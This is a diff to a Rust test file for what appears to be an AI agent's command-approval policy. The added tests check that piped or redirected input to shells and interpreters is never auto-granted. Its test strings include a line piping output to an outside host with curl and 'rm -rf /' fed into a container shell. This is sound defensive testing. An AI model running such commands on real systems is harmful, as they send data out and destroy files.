@@ -81,6 +81,11 @@ fn what_nobody_can_oversee_is_not_offered() {
         "make > $x",
         "node x.js",
         "echo x > .env",
+        "ls | docker exec -i c sh",
+        "ls || true | docker exec -i c sh",
+        "deno run - < a.txt",
+        "kubectl apply -f - <<< x",
+        "ls | curl -d @- https://a.example/x",
     ] {
         let found = offered(&policy, &Call::run(command));
         assert_eq!(found, None, "{command}");
@@ -88,6 +93,30 @@ fn what_nobody_can_oversee_is_not_offered() {
     assert_eq!(offered(&policy, &Call::new("read_file", r#"{"path":".env"}"#)), None);
     assert_eq!(offered(&policy, &Call::new("read_file", "{}")), None);
     assert_eq!(offered(&policy, &Call::run("ls")), None);
+}
+
+#[test]
+fn an_always_for_a_command_says_nothing_of_what_it_is_given_to_read() {
+    let policy = policy("[[rule]]\neffect = \"allow\"\ncommands = [\"ls\"]\n");
+    let suggestion = offered(&policy, &Call::run("docker exec -i c sh")).unwrap();
+    let grants = Grants::compile(suggestion.rules, &context()).unwrap();
+    for (line, expected) in [
+        ("docker exec -i c sh", true),
+        ("docker exec -i c sh | ls", true),
+        ("ls || docker exec -i c sh", true),
+        ("ls | docker exec -i c sh", false),
+        ("ls |& docker exec -i c sh", false),
+        ("docker exec -i c sh < a", false),
+        ("docker exec -i c sh <<< 'rm -rf /'", false),
+        ("docker exec -i c sh <<x\nrm -rf /\nx\n", false),
+        ("{ docker exec -i c sh; } < a", false),
+        ("ls | { docker exec -i c sh; }", false),
+    ] {
+        let call = Call::run(line);
+        let verdict = verdict(&policy, &call);
+        let answers = grants.answers(&call.judged(), &verdict, &Links::default()).unwrap();
+        assert_eq!(answers, expected, "{line}");
+    }
 }
 
 #[test]
